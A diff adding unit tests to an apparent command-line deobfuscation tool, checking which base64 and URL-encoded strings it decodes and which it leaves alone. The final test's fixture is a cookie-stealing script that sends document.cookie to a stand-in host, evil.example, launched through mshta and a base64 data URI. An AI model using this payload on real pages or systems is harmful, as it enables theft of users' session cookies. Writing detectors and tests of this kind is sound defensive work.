@@ -214,3 +214,34 @@ def test_base64_of_random_bytes_never_raises(data: bytes) -> None:
 def test_base64_of_printable_text_comes_back(hidden: str) -> None:
     result = decode(f"echo {b64(hidden.encode())} | base64 -d", STEPS, Limits(max_depth=1))
     assert [layer.after for layer in result.layers] == [f"echo {hidden} | base64 -d"]
+
+
+def test_binary_uploaded_with_curl_stays_as_it_is() -> None:
+    archive = gzip.compress(bytes(range(256)) * 4, mtime=0)[:-8]  # a cut stream: no text comes out
+    for text in (
+        f"echo {b64(_png())} | curl -s -X POST -H 'Content-Type: image/png' -d @- https://api.example.com/up",
+        f"printf '%s' {b64(archive)} | curl --data-binary @- https://files.example.com/upload",
+    ):
+        for step in STEPS:
+            assert step(text, Budget()) is None, (step, text)
+
+
+def test_xml_and_json_documents_in_base64_are_data_not_layers() -> None:
+    ping = '<?xml version="1.0" encoding="UTF-8"?><request protocol="3.0"><app appid="{8A69}"/></request>'
+    config = '{"auths": {"registry.example.com": {"auth": "dXNlcjpwYXNz"}}}'
+    for document in (ping, config):
+        text = f"MicrosoftEdgeUpdate.exe /ping {base64.urlsafe_b64encode(document.encode()).decode()}"
+        assert encodings.decode_base64(text, Budget()) is None
+
+
+def test_long_words_with_percent_signs_are_scanned_once() -> None:
+    text = "|".join(["%{$_}"] * 20_000) + " " + "a%" * 50_000
+    started = time.monotonic()
+    assert encodings.decode_url(text, Budget(Limits(max_ticks=10**7))) is None
+    assert time.monotonic() - started < 1.0
+
+
+def test_a_data_uri_of_text_is_still_decoded() -> None:
+    hidden = "<script>fetch('http://evil.example/c?'+document.cookie)</script>"
+    text = f"mshta data:text/html;base64,{b64(hidden.encode())}"
+    assert peel(text) == (["base64"], f"mshta data:text/html;base64,{hidden}")
